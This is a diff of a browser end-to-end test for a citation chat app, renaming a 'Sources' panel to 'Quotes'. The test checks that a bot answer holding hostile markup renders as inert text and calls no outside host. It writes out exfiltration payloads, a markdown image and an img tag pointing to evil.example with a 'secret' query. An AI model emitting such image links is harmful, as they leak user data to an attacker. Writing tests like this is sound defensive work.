@@ -45,13 +45,13 @@ def test_an_answer_of_hostile_text_loads_nothing_links_nowhere_and_shows_its_cod
     page.locator("#cw-question textarea").press("Enter")
     chat = page.locator("#cw-chat")
     expect(chat).to_contain_text("That is all.", timeout=30_000)
-    expect(page.locator("#cw-sources .cw-title")).to_have_text("Sources", timeout=30_000)
+    expect(page.locator("#cw-quotes .cw-title")).to_have_text("Quotes", timeout=30_000)
     bot = chat.locator(".bot")
     expect(bot).to_contain_text("![pixel](http://evil.example/?q=secret)")
     expect(bot).to_contain_text('<img src="http://evil.example/x.png"')
     assert bot.locator("strong").inner_text() == "all"
     assert bot.locator("code").all_inner_texts() == ["x[0] < 3 && '<b>'", CODE]
-    for part in (bot.locator(".prose"), page.locator("#cw-sources")):
+    for part in (bot.locator(".prose"), page.locator("#cw-quotes")):
         assert part.locator("a, img, script, iframe, svg.mermaid").count() == 0
     assert page.title() == "Citewell"
     assert hosts == {"127.0.0.1"}
